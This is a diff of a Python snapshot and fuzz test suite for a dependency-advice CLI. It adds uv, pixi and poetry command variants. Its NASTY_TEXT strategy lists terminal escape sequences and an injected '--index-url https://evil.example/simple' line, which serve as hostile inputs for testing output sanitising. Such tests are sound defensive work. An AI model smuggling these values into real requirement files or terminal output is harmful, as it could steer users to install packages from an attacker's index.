@@ -25,7 +25,9 @@ from paths import SNAP_DIR
 SNAPSHOTS = {os.path.basename(p)[:-5]: json.load(open(p, encoding="utf-8"))
              for p in sorted(glob.glob(os.path.join(SNAP_DIR, "*.json")))}
 COMMANDS = (["doctor", "--no-color"], ["doctor", "--verbose", "--no-color"], ["doctor", "--json"],
-            ["doctor", "--markdown"], ["advise"], ["pin"], ["readme-line"])
+            ["doctor", "--markdown"], ["advise"], ["pin"], ["readme-line"],
+            ["advise", "--json", "--uv"], ["advise", "--uv"], ["advise", "--pixi"], ["advise", "--poetry"],
+            ["pin", "--uv"])
 
 NASTY_TEXT = st.sampled_from([
     "\x1b]0;title\x07", "\x1b[2J", "\x1b[8m", "\x9b31m", "\r", "\n--index-url https://evil.example/simple\n",
